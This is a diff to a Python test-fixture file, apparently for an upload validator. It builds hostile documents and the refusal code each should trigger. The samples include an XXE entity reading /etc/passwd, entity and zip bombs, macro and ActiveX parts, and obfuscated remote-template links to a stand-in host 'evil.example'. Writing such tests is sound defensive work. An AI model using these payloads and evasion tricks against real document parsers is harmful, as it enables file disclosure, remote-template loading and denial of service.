@@ -7,6 +7,7 @@ bytes, and the code of the refusal. ``bin/prove files`` sends every one through 
 from __future__ import annotations
 
 import io
+import random
 import struct
 import zipfile
 import zlib
@@ -20,6 +21,8 @@ ENCRYPTED = OLE + "EncryptedPackage".encode("utf-16-le")
 BIG = 20_000_001
 MS = "http://schemas.openxmlformats.org"
 XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
+# what packs badly: without it the ratio of a small file alone would refuse it
+NOISE = {"noise.bin": random.Random(7).randbytes(60_000)}
 LAUGHS = (
     b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">'
     b'<!ENTITY c "&b;&b;&b;&b;">]><w>&c;</w>'
@@ -336,7 +339,8 @@ def _active() -> Iterable[Bad]:
     yield Bad("动画.pdf", lambda: pdf(page="/Annots [<< /Subtype /RichMedia >>]"), "upload_active")
     yield Bad("导入.pdf", lambda: pdf("/AA << /WC << /S /ImportData >> >>"), "upload_active")
     yield Bad("宏.xlsx", lambda: xlsx({"xl/vbaProject.bin": b"x"}), "upload_macros")
-    yield Bad("宏.docx", lambda: package(types=b"<Override macroEnabled/>"), "upload_macros")
+    named = b"<Types><Override ContentType='application/vnd.ms-word.macroEnabled.main'/></Types>"
+    yield Bad("宏.docx", lambda: package(types=named), "upload_macros")
     yield Bad("老宏.xlsx", lambda: xlsx({"xl/macrosheets/s.xml": b"<x/>"}), "upload_macros")
     yield Bad("控件.docx", lambda: package(parts={"word/activeX/a.bin": b"x"}), "upload_macros")
     yield Bad("嵌入.docx", lambda: package(parts={"word/embeddings/a.bin": b"x"}), "upload_macros")
@@ -355,6 +359,29 @@ def _active() -> Iterable[Bad]:
     yield Bad("实体.ofd", lambda: package("OFD.xml", body=LAUGHS), "upload_outside")
     wide = XXE.decode().encode("utf-16")
     yield Bad("宽实体.docx", lambda: package(body=wide), "upload_outside")
+    far = relations("attachedTemplate", "http://evil.example/t.dotm")
+    for told in (
+        b'<?xml version="1.0" encoding="UTF-16"?>'.decode().encode("utf-16")
+        + far.decode().encode("utf-16-le"),
+        far.replace(b"External", b"&#69;xternal"),
+        far.replace(b"http", b"&#104;ttp"),
+        far.replace(b"<Rel", b"<x:Rel").replace(b"</Rel", b"</x:Rel"),
+        b'<?xml version="1.0" encoding="GBK"?>' + far.replace(b"r1", "模板".encode("gbk")),
+        b"<!DOCTYPE Relationships>" + relations("hyperlink", "https://example.gov.cn/"),
+    ):
+        for name in ("word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS"):
+            made = package(parts={name: told})
+            yield Bad("别样外链.docx", is_(made), "upload_outside")
+    late = b'<?xml version="1.0"?><!--' + b"x" * 70_000 + b"-->" + XXE.partition(b"?>")[2]
+    yield Bad("晚实体.docx", lambda: package(parts=NOISE, body=late), "upload_broken")
+    endless = b"<Relationship " * 20_000
+    yield Bad(
+        "回溯.docx", lambda: package(parts={**NOISE, "_rels/.rels": endless}), "upload_broken"
+    )
+    long = {**NOISE, "_rels/.rels": b" " * 9_000_000}
+    yield Bad("长关系.docx", lambda: package(parts=long), "upload_bomb")
+    macros = "<Types><Override ContentType='x.macroEnabled.y'/></Types>".encode("utf-16")
+    yield Bad("宽宏.docx", lambda: package(types=macros), "upload_macros")
 
 
 def _locked_and_bombs() -> Iterable[Bad]:
@@ -373,6 +400,9 @@ def _locked_and_bombs() -> Iterable[Bad]:
     yield Bad("大图.png", lambda: png(60_000, 60_000), "upload_pixels")
     yield Bad("实图.png", png_bomb, "upload_pixels")
     yield Bad("长图.png", lambda: png(2_000_000, 100), "upload_pixels")
+    many = {f"x/{n}.xml": b"<x/>" for n in range(3_100)}
+    yield Bad("目录.docx", lambda: package(parts=many), "upload_bomb")
+    yield Bad("代码.pdf", lambda: pdf(tail=b"%" + b"#41" * 400_000 + b"\n%%EOF"), "upload_bomb")
     yield Bad("大图.jpg", lambda: jpeg_of(60_000, 60_000), "upload_pixels")
 
 
